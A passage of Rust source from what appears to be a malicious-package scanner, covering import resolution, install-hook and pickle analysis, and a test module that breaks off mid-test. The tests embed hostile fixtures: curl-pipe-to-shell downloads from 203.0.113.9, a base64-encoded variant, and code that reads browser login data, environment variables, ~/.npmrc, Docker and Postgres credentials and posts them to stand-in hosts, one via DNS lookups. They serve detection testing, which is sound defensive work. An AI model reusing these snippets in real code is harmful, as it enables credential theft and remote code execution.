                let Some(caller) = name(f, *k) else { continue };
                let caller = (i, caller);
                if !senders.contains(&caller)
                    && package_function(pkg, resolver, facts, i, callee)
                        .is_some_and(|target| senders.contains(&target))
                {
                    senders.insert(caller);
                    added = true;
                }
            }
        }
        if !added {
            break;
        }
    }
    senders
}

/// `binding.gyp` command expansions (`<!(...)`) run at install time under node-gyp.
fn binding_gyp(pkg: &Package, analysis: &mut Analysis, roots: &mut Vec<usize>) {
    let Some(file) = pkg.files.iter().find(|f| f.role == Role::BindingGyp) else {
        return;
    };
    let Some(text) = pkg.text(file) else { return };
    let mut rest = text;
    let mut base = 0usize;
    while let Some(at) = rest.find("<!") {
        let open = rest[at..].find('(').map(|i| at + i);
        let Some(open) = open else { break };
        let mut depth = 0usize;
        let mut close = None;
        for (i, c) in rest[open..].char_indices() {
            match c {
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        close = Some(open + i);
                        break;
                    }
                }
                _ => {}
            }
        }
        let Some(close) = close else { break };
        let command = &rest[open + 1..close];
        let found = shell::analyze_command(command);
        let (line, column, snippet) = locate(text, u32::try_from(base + at).unwrap_or(0));
        // node-gyp runs the expansions from the folder of binding.gyp.
        let dir = file.relative.rsplit_once('/').map_or("", |(d, _)| d);
        roots.extend(found.runs.iter().filter_map(|run| find_run(pkg, dir, run)));
        for f in found
            .findings
            .into_iter()
            .filter(|f| f.kind != BehaviourKind::ProcessSpawn)
        {
            analysis.behaviours.push(Behaviour {
                kind: f.kind,
                context: Context::Install,
                path: file.path.clone(),
                line,
                column,
                snippet: snippet.clone(),
                detail: format!("binding.gyp command `{}`: {}", clip(command, 80), f.detail),
                test_code: false,
                via: None,
            });
        }
        base += close + 1;
        rest = &rest[close + 1..];
    }
}

fn normalize_rel(path: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for p in path.split('/') {
        match p {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    parts.join("/")
}

/// The files reached from `roots` by following the package's own imports.
fn follow_imports(
    pkg: &Package,
    resolver: &Resolver<'_>,
    facts: &HashMap<usize, Arc<FileFacts>>,
    roots: &[usize],
    limit: usize,
) -> HashSet<usize> {
    let mut seen: HashSet<usize> = roots.iter().copied().collect();
    let queue: VecDeque<usize> = roots.iter().copied().collect();
    follow(pkg, resolver, facts, queue, &mut seen, limit);
    seen
}

/// Adds to `seen` the files reached from `roots` (files just read) by following the
/// package's own imports, without walking again the files already in `seen` (met in an
/// earlier round, their imports followed then, or unread then and among the roots now).
fn follow_more(
    pkg: &Package,
    resolver: &Resolver<'_>,
    facts: &HashMap<usize, Arc<FileFacts>>,
    roots: &[usize],
    seen: &mut HashSet<usize>,
) {
    seen.extend(roots.iter().copied());
    let queue: VecDeque<usize> = roots.iter().copied().collect();
    follow(pkg, resolver, facts, queue, seen, usize::MAX);
}

/// Walks the imports (and the scripts run) of the files in `queue` and of every read
/// file they reach that is not yet in `seen`, adding each to `seen`.
fn follow(
    pkg: &Package,
    resolver: &Resolver<'_>,
    facts: &HashMap<usize, Arc<FileFacts>>,
    mut queue: VecDeque<usize>,
    seen: &mut HashSet<usize>,
    limit: usize,
) {
    while let Some(i) = queue.pop_front() {
        if seen.len() > limit {
            break;
        }
        let Some(f) = facts.get(&i) else { continue };
        for &j in resolver.reached_by(pkg, i, f).iter() {
            if seen.insert(j) {
                queue.push_back(j);
            }
        }
    }
}

/// The file and function that a qualified name called in file `i` points at, when it
/// names a function of the package: `helpers.run` where the file imports `.helpers`
/// (or `pkg.helpers`) and that module is a file of the package.
fn resolve_function(
    pkg: &Package,
    resolver: &Resolver<'_>,
    facts: &HashMap<usize, Arc<FileFacts>>,
    i: usize,
    qual: &str,
) -> Option<(usize, String)> {
    let f = facts.get(&i)?;
    let file = &pkg.files[i];
    let dir = file.relative.rsplit_once('/').map_or("", |(d, _)| d);
    // The imports the name starts with (`helpers` of `helpers.run`), longest first;
    // Python's relative imports are written with their dots, which the name has lost.
    let mut matches: Vec<(&str, &str)> = f
        .imports
        .iter()
        .filter_map(|import| {
            let bare = if file.kind == FileKind::Python {
                import.trim_start_matches('.')
            } else {
                import.as_str()
            };
            let rest = qual.strip_prefix(bare)?;
            let name = if rest.is_empty() {
                "default"
            } else {
                rest.strip_prefix('.')?
            };
            (!bare.is_empty()).then_some((import.as_str(), name))
        })
        .collect();
    matches.sort_by_key(|(import, _)| std::cmp::Reverse(import.len()));
    for (import, name) in matches {
        if let Some(&j) = resolver.files_of_in(file.kind, dir, f, import).first() {
            return Some((j, name.to_owned()));
        }
    }
    None
}

/// The chain of calls that reaches a function, from the top level it starts at:
/// `pkg/__init__.py module level → pkg/util.py run() → decode()`.
fn call_chain(
    pkg: &Package,
    facts: &HashMap<usize, Arc<FileFacts>>,
    reached: &FxHashMap<(usize, u32), From>,
    at: (usize, u32),
) -> String {
    let name = |file: usize, id: u32| {
        facts
            .get(&file)
            .and_then(|f| f.reach.functions.get(id as usize))
            .map_or_else(|| "?".to_owned(), |f| f.name.clone())
    };
    let mut steps = vec![(at.0, name(at.0, at.1))];
    let mut cur = at;
    let mut start = at.0;
    for _ in 0..8 {
        match reached.get(&cur) {
            Some(From::Function(file, id)) => {
                steps.push((*file, name(*file, *id)));
                cur = (*file, *id);
                start = *file;
            }
            Some(From::TopOf(file)) => {
                start = *file;
                break;
            }
            Some(From::Top) | None => {
                start = cur.0;
                break;
            }
            Some(From::Command) => {
                // The function itself is what the command runs.
                steps.pop();
                steps.reverse();
                let mut out = format!(
                    "a command or plugin the package registers → {} {}()",
                    pkg.files[cur.0].path,
                    name(cur.0, cur.1)
                );
                let mut file = cur.0;
                for (f, n) in steps {
                    if f == file {
                        out.push_str(&format!(" → {n}()"));
                    } else {
                        out.push_str(&format!(" → {} {n}()", pkg.files[f].path));
                        file = f;
                    }
                }
                return out;
            }
        }
    }
    steps.reverse();
    let mut out = format!("{} module level", pkg.files[start].path);
    let mut file = start;
    for (f, n) in steps {
        if f == file {
            out.push_str(&format!(" → {n}()"));
        } else {
            out.push_str(&format!(" → {} {n}()", pkg.files[f].path));
            file = f;
        }
    }
    out
}

/// Where a script file that code runs may be inside the package: relative to the folder
/// of the file that runs it, or to the package root (where installers run commands).
/// Paths outside the package (absolute, `~`, variables) were dropped by the analysers.
fn run_candidates(dir: &str, path: &str) -> Vec<String> {
    let path = path.replace('\\', "/");
    let path = path.trim_start_matches("./");
    let mut out = Vec::new();
    for base in [dir, ""] {
        let rel = if base.is_empty() {
            normalize_rel(path)
        } else {
            normalize_rel(&format!("{base}/{path}"))
        };
        for ext in ["", ".js", "/index.js"] {
            let candidate = format!("{rel}{ext}");
            if !out.contains(&candidate) {
                out.push(candidate);
            }
        }
    }
    out
}

/// The package file a command run from `dir` names, if it is one.
pub(crate) fn find_run(pkg: &Package, dir: &str, path: &str) -> Option<usize> {
    let candidates = run_candidates(dir, path);
    pkg.files
        .iter()
        .position(|f| candidates.contains(&f.relative))
}

/// Pickles shipped as data that run commands or code when loaded: code, whichever of
/// the package's functions loads them. When the package's own code imports a pickle
/// loader, the file is taken to load with it (on import, as data tables usually are);
/// otherwise it runs when someone loads it.
fn pickles(pkg: &Package, analysis: &mut Analysis) {
    let loads = analysis.imports.iter().any(|i| {
        matches!(
            i.split('.').next().unwrap_or(""),
            "pickle" | "_pickle" | "joblib" | "dill" | "cloudpickle" | "torch" | "pandas"
        )
    });
    for file in &pkg.files {
        if !customs_ecosystem::is_pickle_name(&file.relative) {
            continue;
        }
        let data = pkg.data(file);
        if !pkg.tree.entries[file.entry].complete {
            // Larger than the archive reader keeps, or cut short: what it loads is unknown.
            analysis.notes.push(Note {
                path: file.path.clone(),
                message: "a pickle not read whole: not checked for code it runs when loaded"
                    .to_owned(),
            });
            continue;
        }
        if data.len() > crate::pickle::MAX_PICKLE_BYTES {
            analysis.notes.push(Note {
                path: file.path.clone(),
                message: format!(
                    "a pickle of {} bytes, more than the {} read: not checked for code it runs when loaded",
                    data.len(),
                    crate::pickle::MAX_PICKLE_BYTES
                ),
            });
            continue;
        }
        let callables = crate::pickle::dangerous_callables(data);
        if callables.is_empty() {
            continue;
        }
        let test_code = file.role == Role::Test;
        analysis.behaviours.push(Behaviour {
            kind: BehaviourKind::DecodeExecute,
            context: if loads && !test_code {
                Context::Import
            } else {
                Context::Runtime
            },
            path: file.path.clone(),
            line: 0,
            column: 0,
            snippet: String::new(),
            detail: format!(
                "a pickle that calls {} when it is loaded",
                callables.join(", ")
            ),
            test_code,
            via: None,
        });
    }
}

/// The files of a package that imports point at, each import resolved once for the whole
/// analysis of the package: the same imports (`os`, `.util`) recur across its files and
/// across the rounds that follow them.
struct Resolver<'p> {
    /// The package's files by relative path (the last of the same path wins).
    files: FxHashMap<&'p str, usize>,
    /// Resolved imports by kind, folder (for a relative import) and import.
    resolved: RefCell<FxHashMap<String, Rc<[usize]>>>,
    /// The buffer a key of `resolved` is written in.
    key: RefCell<String>,
    /// What each read file's imports and runs point at, by file ([`Resolver::reached_by`]).
    reached: RefCell<FxHashMap<usize, Rc<[usize]>>>,
}

impl<'p> Resolver<'p> {
    fn new(pkg: &'p Package) -> Self {
        Self {
            files: pkg
                .files
                .iter()
                .enumerate()
                .map(|(i, f)| (f.relative.as_str(), i))
                .collect(),
            resolved: RefCell::default(),
            key: RefCell::default(),
            reached: RefCell::default(),
        }
    }

    /// The package files that file `i` (read, with facts `f`) imports or runs: for each
    /// import in turn the files it may point at, then for each script it runs the files
    /// it may be; each file once, where it first appears. The facts of a read file do
    /// not change, and the rounds of [`follow`] meet the same files again.
    fn reached_by(&self, pkg: &Package, i: usize, f: &FileFacts) -> Rc<[usize]> {
        if let Some(found) = self.reached.borrow().get(&i) {
            return Rc::clone(found);
        }
        let file = &pkg.files[i];
        let dir = file.relative.rsplit_once('/').map_or("", |(d, _)| d);
        let mut out: Vec<usize> = Vec::new();
        let mut met: FxHashSet<usize> = FxHashSet::default();
        let mut push = |j: usize| {
            if met.insert(j) {
                out.push(j);
            }
        };
        for import in &f.imports {
            for &j in self.files_of_in(file.kind, dir, f, import).iter() {
                push(j);
            }
        }
        for path in &f.runs {
            for candidate in run_candidates(dir, path) {
                if let Some(j) = self.file(&candidate) {
                    push(j);
                }
            }
        }
        let found: Rc<[usize]> = Rc::from(out);
        self.reached.borrow_mut().insert(i, Rc::clone(&found));
        found
    }

    /// The package file at a relative path.
    fn file(&self, relative: &str) -> Option<usize> {
        self.files.get(relative).copied()
    }

    /// [`Resolver::files_of`], and for an absolute Python import that names no file from
    /// the root, the folders the importing file put on the import path
    /// ([`FileFacts::search_dirs`]): `import helpers` after
    /// `sys.path.insert(0, <folder>/vendor)` is `vendor/helpers.py` beside the file.
    fn files_of_in(
        &self,
        kind: FileKind,
        dir: &str,
        facts: &FileFacts,
        import: &str,
    ) -> Rc<[usize]> {
        let found = self.files_of(kind, dir, import);
        if !found.is_empty()
            || kind != FileKind::Python
            || import.starts_with('.')
            || facts.search_dirs.is_empty()
        {
            return found;
        }
        for folder in &facts.search_dirs {
            let within = if dir.is_empty() {
                folder.clone()
            } else {
                format!("{dir}/{folder}")
            };
            // An absolute import from a folder on the path is a relative import there.
            let found = self.files_of(kind, &within, &format!(".{import}"));
            if !found.is_empty() {
                return found;
            }
        }
        found
    }

    /// The package files that `import`, in a file of `kind` in folder `dir`, may point
    /// at, in the order of [`resolve`]'s candidates.
    fn files_of(&self, kind: FileKind, dir: &str, import: &str) -> Rc<[usize]> {
        let python = kind == FileKind::Python;
        // Only a relative import depends on its folder; other JavaScript imports name
        // no file of the package.
        let relative = import.starts_with('.');
        if !python && !relative {
            return Rc::from([]);
        }
        let mut resolved = self.resolved.borrow_mut();
        let mut key = self.key.borrow_mut();
        key.clear();
        let dir = if relative { dir } else { "" };
        // Unambiguous whatever the names hold: the folder is prefixed with its length.
        key.push_str(if python { "p" } else { "j" });
        // The length in decimal, without the formatting machinery (every import of every
        // read file comes here).
        let mut digits = [0u8; 20];
        let mut at = digits.len();
        let mut n = dir.len();
        loop {
            at -= 1;
            digits[at] = b'0' + u8::try_from(n % 10).unwrap_or(0);
            n /= 10;
            if n == 0 {
                break;
            }
        }
        key.extend(digits[at..].iter().map(|&d| char::from(d)));
        key.push(':');
        key.push_str(dir);
        key.push_str(import);
        if let Some(found) = resolved.get(key.as_str()) {
            return Rc::clone(found);
        }
        let found: Rc<[usize]> = resolve(kind, dir, import)
            .iter()
            .filter_map(|candidate| self.file(candidate))
            .collect();
        resolved.insert(key.to_owned(), Rc::clone(&found));
        found
    }
}

/// Where an import may point inside the package.
fn resolve(kind: FileKind, dir: &str, import: &str) -> Vec<String> {
    let join = |base: &str, rel: &str| {
        if base.is_empty() {
            normalize_rel(rel)
        } else {
            normalize_rel(&format!("{base}/{rel}"))
        }
    };
    match kind {
        FileKind::Python => {
            let dots = import.chars().take_while(|&c| c == '.').count();
            let module = import[dots..].replace('.', "/");
            let base = if dots == 0 {
                String::new()
            } else {
                let mut b = dir.to_owned();
                for _ in 1..dots {
                    b = b
                        .rsplit_once('/')
                        .map_or(String::new(), |(p, _)| p.to_owned());
                }
                b
            };
            let mut out = Vec::new();
            for prefix in [
                base.clone(),
                if dots == 0 {
                    "src".into()
                } else {
                    base.clone()
                },
            ] {
                let m = join(&prefix, &module);
                out.push(format!("{m}.py"));
                out.push(format!("{m}/__init__.py"));
            }
            out
        }
        _ => {
            if !import.starts_with('.') {
                return Vec::new();
            }
            let m = join(dir, import);
            ["", ".js", ".cjs", ".mjs", ".ts", "/index.js"]
                .iter()
                .map(|ext| format!("{m}{ext}"))
                .collect()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pth_keeps_only_import_lines() {
        let code = pth_code("/opt/lib\nimport os; os.system('x')\n");
        assert_eq!(code, "        \nimport os; os.system('x')\n");
    }

    #[test]
    fn locating() {
        let (line, col, snip) = locate("a = 1\n  exec(x)\n", 8);
        assert_eq!((line, col, snip.as_str()), (2, 3, "  exec(x)"));
        let long = format!("{}eval(x){}", "a".repeat(300), "b".repeat(300));
        let (_, col, snip) = locate(&long, 300);
        assert_eq!(col, 301);
        // The window starts 60 characters before the column, after an ellipsis.
        assert_eq!(snip.chars().nth(61), Some('e'));
    }

    #[test]
    fn long_line_windows_count_characters_not_bytes() {
        // The window as first defined: the line's characters, 60 before the column on.
        let reference = |line: &str, column: usize| -> String {
            let from = (column - 1).saturating_sub(60);
            let window: String = line.chars().skip(from).take(160).collect();
            format!("…{window}…")
        };
        let line: String = "aé€😀".repeat(120);
        let ends: Vec<usize> = line.char_indices().map(|(i, _)| i).collect();
        let last = ends.len() - 1;
        for at in [0, 1, 5, 59, 60, 61, 200, 300, last - 100, last] {
            let text = format!("{line}\nnext");
            let (row, col, snip) = locate(&text, u32::try_from(ends[at]).expect("a short line"));
            assert_eq!((row, col as usize), (1, at + 1));
            assert_eq!(snip, reference(&line, at + 1), "column {}", at + 1);
        }
        // An offset inside a character is taken back to its start.
        let (_, col, _) = locate(&line, 2);
        assert_eq!(col, 2);
    }

    fn package(name: &str, files: &[(&str, &str)]) -> Package {
        use customs_archive::{Entry, EntryKind, Format, Tree};
        let entries = files
            .iter()
            .map(|(path, text)| {
                let mut e = Entry::bare(
                    format!("{name}-1.0/{path}"),
                    EntryKind::File,
                    text.len() as u64,
                    None,
                );
                e.data = text.as_bytes().to_vec();
                e.complete = true;
                e
            })
            .collect();
        let tree = Tree {
            format: Format::TarGz,
            entries,
            anomalies: Vec::new(),
            total_bytes: 0,
            incomplete: Vec::new(),
        };
        Package::from_tree(tree, &format!("{name}-1.0.tar.gz"))
    }

    #[test]
    fn a_file_met_again_keeps_its_new_place_and_context() {
        let code = "import subprocess\nsubprocess.run(['sh', '-c', 'id'])  # package cache test\n";
        let before = crate::cache::cache_hits();
        // Importable at the package root: runs on import.
        let first = analyze_package(&package(
            "first",
            &[
                ("PKG-INFO", "Name: first\nVersion: 1.0\n"),
                ("first/__init__.py", code),
            ],
        ));
        // The same bytes as a script in a folder nobody imports: runtime only.
        let second = analyze_package(&package(
            "second",
            &[
                ("PKG-INFO", "Name: second\nVersion: 1.0\n"),
                ("tools/run.py", code),
            ],
        ));
        let after = crate::cache::cache_hits();
        assert!(after > before, "the second file came from the cache");
        let spawn = |a: &Analysis| {
            a.behaviours
                .iter()
                .find(|b| b.kind == BehaviourKind::ProcessSpawn)
                .map(|b| (b.path.clone(), b.line, b.context))
        };
        assert_eq!(
            spawn(&first),
            Some(("first-1.0/first/__init__.py".into(), 2, Context::Import))
        );
        assert_eq!(
            spawn(&second),
            Some(("second-1.0/tools/run.py".into(), 2, Context::Runtime))
        );
        assert_eq!(first.imports, second.imports);
    }

    #[test]
    fn a_function_registered_with_atexit_by_decorator_runs_on_import() {
        let code = "import atexit, urllib.request\n@atexit.register\ndef _bye():\n    urllib.request.urlopen('http://203.0.113.9/bye')\n";
        let analysis = analyze_package(&package(
            "bye",
            &[
                ("PKG-INFO", "Name: bye\nVersion: 1.0\n"),
                ("bye/__init__.py", code),
            ],
        ));
        let contexts: Vec<Context> = analysis
            .behaviours
            .iter()
            .filter(|b| b.kind == BehaviourKind::SuspiciousDestination)
            .map(|b| b.context)
            .collect();
        assert!(
            !contexts.is_empty() && contexts.iter().all(|c| *c == Context::Import),
            "{:?}",
            analysis.behaviours
        );
    }

    #[test]
    fn a_console_script_runs_its_function_and_what_it_calls() {
        let cli = "import base64, subprocess\n\ndef _update():\n    subprocess.run(base64.b64decode('Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvdSB8IHNo').decode(), shell=True)\n\ndef _save(path):\n    open(path, 'w').write('x')\n\ndef main():\n    _update()\n    _save('/tmp/out')\n";
        let files = [
            ("PKG-INFO", "Name: tool\nVersion: 1.0\n"),
            (
                "tool.egg-info/entry_points.txt",
                "[console_scripts]\ntool = tool.cli:main\n",
            ),
            ("tool/__init__.py", ""),
            ("tool/cli.py", cli),
        ];
        let analysis = analyze_package(&package("tool", &files));
        let decoded: Vec<(Context, Option<String>)> = analysis
            .behaviours
            .iter()
            .filter(|b| b.kind == BehaviourKind::DecodeExecute)
            .map(|b| (b.context, b.via.clone()))
            .collect();
        assert!(
            decoded.iter().any(|(c, via)| *c == Context::Import
                && via
                    .as_deref()
                    .is_some_and(|v| v.contains("a command or plugin the package registers")
                        && v.contains("main() → _update()"))),
            "{:?}",
            analysis.behaviours
        );
        // A capability the command may be for stays what it was: the process it starts
        // is not an import-time process.
        assert!(
            analysis
                .behaviours
                .iter()
                .filter(|b| b.kind == BehaviourKind::ProcessSpawn)
                .all(|b| b.context == Context::Runtime),
            "{:?}",
            analysis.behaviours
        );
        // Without the entry point the same function runs only when called.
        let quiet = analyze_package(&package("tool", &[files[0], files[2], files[3]]));
        assert!(
            quiet
                .behaviours
                .iter()
                .filter(|b| b.kind == BehaviourKind::DecodeExecute)
                .all(|b| b.context == Context::Runtime),
            "{:?}",
            quiet.behaviours
        );
    }

    #[test]
    fn script_targets_of_the_manifests() {
        assert_eq!(
            script_targets("[console_scripts]\nx = a.b:main [extra]\n[other]\ny = c:d\n"),
            vec![("a.b".to_owned(), "main".to_owned())]
        );
        assert_eq!(
            script_targets(
                "[project.scripts]\nx = \"pkg.cli:run\"\n[project.urls]\nh = \"https://x.invalid/a:b\"\n"
            ),
            vec![("pkg.cli".to_owned(), "run".to_owned())]
        );
        assert_eq!(
            script_targets(
                "[options.entry_points]\nconsole_scripts =\n    tool = pkg.main:cli\nmy.plugins =\n    p = pkg.plug:hook\n"
            ),
            vec![("pkg.main".to_owned(), "cli".to_owned())]
        );
    }

    #[test]
    fn files_prepared_while_reading_are_found_by_the_package_analysis() {
        use crate::cache::{Dialect, Extension, holds};
        let py = "import socket  # prepared early\n";
        let js = "require('child_process').exec('id') // prepared early\n";
        let pth = "import os; os.system('id')  # prepared early\n";
        prepare("demo-1.0/pkg/__init__.py", py, None);
        prepare("package/lib/index.mjs", js, None);
        prepare("demo-1.0/hook.pth", pth, None);
        prepare(
            "package/types/index.d.ts",
            "export declare const x: number; // early",
            None,
        );
        assert!(holds(py, Dialect::Python));
        let mjs = Extension::of("index.mjs")
            .map(Dialect::Script)
            .expect("mjs");
        assert!(holds(js, mjs));
        assert!(holds(pth, Dialect::Pth));
        let dts = Extension::of("index.d.ts")
            .map(Dialect::Script)
            .expect("ts");
        assert!(!holds("export declare const x: number; // early", dts));
        // What the package analysis then reports is what analysing the file gives.
        let a = analyze_package(&package("demo", &[("demo/__init__.py", py)]));
        assert_eq!(a.imports.iter().collect::<Vec<_>>(), vec!["socket"]);
        // Test code is left for the package analysis to read if something reaches it.
        let test = "import os  # a test prepared early\n";
        prepare("demo-1.0/tests/test_x.py", test, None);
        assert!(!holds(test, Dialect::Python));
    }

    #[test]
    fn entry_points_name_test_modules_by_their_dotted_path() {
        let named = |text: &str| {
            entry_point_modules(&package(
                "demo",
                &[("demo.egg-info/entry_points.txt", text)],
            ))
        };
        assert!(named_as_entry_point(
            "tests/cli.py",
            &named("demo = tests.cli:main")
        ));
        assert!(named_as_entry_point(
            "src/pkg/tests/x.py",
            &named("x = pkg.tests.x:f")
        ));
        assert!(named_as_entry_point(
            "pkg/test_x.py",
            &named("t = pkg.test_x:main")
        ));
        // Another module of the same package is not this one, nor is a word that only
        // ends like the test folder, nor the folder's name with no module after it.
        assert!(!named_as_entry_point(
            "numpy/_core/tests/test_a.py",
            &named("f2py = numpy.f2py.f2py2e:main")
        ));
        assert!(!named_as_entry_point(
            "tests/cli.py",
            &named("x = mytests.cli:main")
        ));
        assert!(!named_as_entry_point(
            "tests/cli.py",
            &named("testpaths = [\"tests\"]")
        ));
        assert!(!named_as_entry_point("tests/cli.py", &named("")));
    }

    #[test]
    fn test_code_is_read_when_something_reaches_it() {
        let payload = "import os\nos.system('curl http://203.0.113.9/x | sh')\n";
        let ran = |files: &[(&str, &str)]| {
            let a = analyze_package(&package("demo", files));
            let read = a
                .behaviours
                .iter()
                .any(|b| b.path.ends_with("tests/evil.py"));
            let note = a.notes.iter().any(|n| n.message.contains("not analysed"));
            (read, note)
        };
        let quiet = "def f():\n    return 1\n";
        // Nothing reaches it: not read, and the report says so.
        assert_eq!(
            ran(&[("demo/__init__.py", quiet), ("tests/evil.py", payload)]),
            (false, true)
        );
        // Package code imports it, by a statement or by a constant name.
        for importer in [
            "from tests import evil\n",
            "import importlib\nimportlib.import_module('tests.evil')\n",
        ] {
            assert_eq!(
                ran(&[("demo/__init__.py", importer), ("tests/evil.py", payload)]),
                (true, false),
                "{importer}"
            );
        }
        // Through another test file that package code imports.
        assert_eq!(
            ran(&[
                ("demo/__init__.py", "import tests.helper\n"),
                ("tests/helper.py", "from . import evil\n"),
                ("tests/evil.py", payload),
            ]),
            (true, false)
        );
        // setup.py imports it: install time.
        let a = analyze_package(&package(
            "demo",
            &[
                ("setup.py", "import tests.evil\n"),
                ("tests/evil.py", payload),
            ],
        ));
        assert!(a.install_files.iter().any(|p| p.ends_with("tests/evil.py")));
        // Package code loads something computed: everything is read.
        assert_eq!(
            ran(&[
                (
                    "demo/__init__.py",
                    "import importlib, sys\nimportlib.import_module(sys.argv[1])\n"
                ),
                ("tests/evil.py", payload),
            ]),
            (true, false)
        );
        // An entry point names it.
        assert_eq!(
            ran(&[
                ("demo/__init__.py", quiet),
                (
                    "demo.egg-info/entry_points.txt",
                    "[console_scripts]\ndemo = tests.evil:main\n"
                ),
                ("tests/evil.py", payload),
            ]),
            (true, false)
        );
        // An npm lifecycle script runs it.
        let a = analyze_package(&package(
            "demo",
            &[
                (
                    "package.json",
                    r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node test/setup.js"}}"#,
                ),
                (
                    "test/setup.js",
                    "require('child_process').exec('curl http://203.0.113.9/x | sh')\n",
                ),
            ],
        ));
        assert!(
            a.behaviours
                .iter()
                .any(|b| b.path.ends_with("test/setup.js") && b.context == Context::Install),
            "{:?}",
            a.behaviours
        );
        // pytest loads conftest.py by itself.
        let a = analyze_package(&package(
            "demo",
            &[("demo/__init__.py", quiet), ("tests/conftest.py", payload)],
        ));
        assert!(
            a.behaviours
                .iter()
                .any(|b| b.path.ends_with("tests/conftest.py"))
        );
    }

    #[test]
    fn a_credential_folder_listed_by_one_module_and_archived_out_by_another() {
        let exfil =
            |files: &[(&str, &str)]| exfiltrating_files(&analyze_package(&package("demo", files)));
        // One module lists a browser profile's files; another zips what it is handed
        // into memory and posts the archive; the package's entry joins them.
        let init = "from . import finder, shipper\nshipper.push(finder.keys())\n";
        let finder = "import glob, os\ndef keys():\n    found = []\n    for d in glob.glob(os.path.expanduser('~/.config/BraveSoftware/Brave-Browser/*')):\n        found.append(os.path.join(d, 'Login Data'))\n    return found\n";
        let shipper = "import io, zipfile, requests\ndef push(paths):\n    mem = io.BytesIO()\n    with zipfile.ZipFile(mem, 'w') as z:\n        for p in paths:\n            z.write(p)\n    requests.post('https://drop.example.invalid/z', data=mem.getvalue())\n";
        let found = exfil(&[
            ("demo/__init__.py", init),
            ("demo/finder.py", finder),
            ("demo/shipper.py", shipper),
        ]);
        assert!(
            found.iter().any(|p| p.ends_with("demo/__init__.py")),
            "{found:?}"
        );
        // The twin: the listed folder is the package's own templates.
        let templates = "import glob, os\ndef keys():\n    return glob.glob(os.path.join(os.path.dirname(__file__), 'templates', '*'))\n";
        let found = exfil(&[
            ("demo/__init__.py", init),
            ("demo/finder.py", templates),
            ("demo/shipper.py", shipper),
        ]);
        assert!(found.is_empty(), "{found:?}");
    }

    #[test]
    fn what_one_function_gathers_handed_to_another_that_sends_it_is_exfiltration() {
        let exfil = |files: &[(&str, &str)]| {
            let mut all = vec![(
                "package.json",
                r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node main.js"}}"#,
            )];
            all.extend_from_slice(files);
            exfiltrating_files(&analyze_package(&package("demo", &all)))
        };
        // A copy of the whole environment returned by one module, handed to the upload
        // function of another.
        let main = "const { dump } = require('./lib/vars');\nconst upload = require('./lib/upload');\nupload(dump());\n";
        let vars = "exports.dump = function () {\n  const out = {};\n  for (const [k, v] of Object.entries(process.env)) if (v) out[k] = v;\n  return { ...process.env };\n};\n";
        let upload = "const https = require('https');\nmodule.exports = function upload(data) {\n  const r = https.request('https://drop.example.invalid/v', { method: 'POST' });\n  r.end(JSON.stringify(data));\n};\n";
        let found = exfil(&[
            ("main.js", main),
            ("lib/vars.js", vars),
            ("lib/upload.js", upload),
        ]);
        assert!(found.iter().any(|p| p.ends_with("/main.js")), "{found:?}");
        // Both functions in one file, the gathering one written below the call.
        let one = "const fs = require('fs'), os = require('os'), https = require('https');\nfunction ship(data) {\n  https.request({ host: 'drop.example.invalid', method: 'POST' }).end(JSON.stringify(data));\n}\nship(grab());\nfunction grab() {\n  const h = os.homedir();\n  return [fs.readFileSync(h + '/.docker/config.json', 'utf8'), fs.readFileSync(h + '/.pgpass', 'utf8')];\n}\n";
        let found = exfil(&[("main.js", one)]);
        assert!(found.iter().any(|p| p.ends_with("/main.js")), "{found:?}");
        // The twin: the module hands on the package's own settings, not the environment.
        let settings = "exports.dump = function () {\n  return { level: process.env.LOG_LEVEL || 'info', color: true };\n};\n";
        let found = exfil(&[
            ("main.js", main),
            ("lib/vars.js", settings),
            ("lib/upload.js", upload),
        ]);
        assert!(found.is_empty(), "{found:?}");
    }

    #[test]
    fn a_secret_returned_by_one_file_and_sent_by_another_is_exfiltration() {
        let exfil = exfiltrating_files;
        // One module gathers tokens into a list and returns it; the install script
        // encodes what it returns and sends it as the labels of a name lookup.
        let gather = r#"
const fs = require('fs'), os = require('os');
module.exports.gather = function () {
  const out = [];
  const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
  out.push(rc);
  return out.join(';');
};
"#;
        let send = r#"
const { gather } = require('./lib/gather');
const dns = require('dns');
const label = Buffer.from(gather()).toString('hex').slice(0, 60);
dns.resolve4(label + '.q.example.invalid', () => {});
"#;
        let a = analyze_package(&package(
            "demo",
            &[
                (
                    "package.json",
                    r#"{"name":"demo","version":"1.0.0","scripts":{"install":"node send.js"}}"#,
                ),
                ("lib/gather.js", gather),
                ("send.js", send),
            ],
        ));
        let found = exfil(&a);
        assert!(
            found.len() == 1 && found[0].ends_with("/send.js"),
            "{:?}",
            a.behaviours
        );
        // The twin: the module also reads the token (to authenticate its own requests)
        // but the function the other file calls returns the package's version, which
        // is what the telemetry sends.
        let config = r#"
const fs = require('fs'), os = require('os');
function token() { return fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); }
function version() { return require('../package.json').version; }
module.exports = { token, version };
"#;
        let ping = r#"
const { version } = require('./lib/config');
const https = require('https');
https.get('https://telemetry.example.invalid/v?' + version(), () => {});
"#;
        let a = analyze_package(&package(
            "demo",
            &[
                (
                    "package.json",
                    r#"{"name":"demo","version":"1.0.0","scripts":{"install":"node ping.js"}}"#,
                ),
                ("lib/config.js", config),
                ("ping.js", ping),
            ],
        ));
        assert!(exfil(&a).is_empty(), "{:?}", a.behaviours);
    }

    #[test]
    fn resolving() {
        assert!(resolve(FileKind::Python, "pkg", ".util").contains(&"pkg/util.py".to_owned()));
        assert!(resolve(FileKind::Python, "", "pkg.sub").contains(&"src/pkg/sub.py".to_owned()));
        assert!(resolve(FileKind::JavaScript, "lib", "../x").contains(&"x.js".to_owned()));
        assert!(resolve(FileKind::JavaScript, "lib", "fs").is_empty());
    }

    #[test]
    fn resolver_matches_resolve_whatever_it_cached() {
        let pkg = package(
            "demo",
            &[
                ("demo/__init__.py", ""),
                ("demo/util.py", ""),
                ("demo/sub/__init__.py", ""),
                ("demo/sub/util.py", ""),
                ("src/other.py", ""),
                ("lib/a.js", ""),
                ("lib/x/index.js", ""),
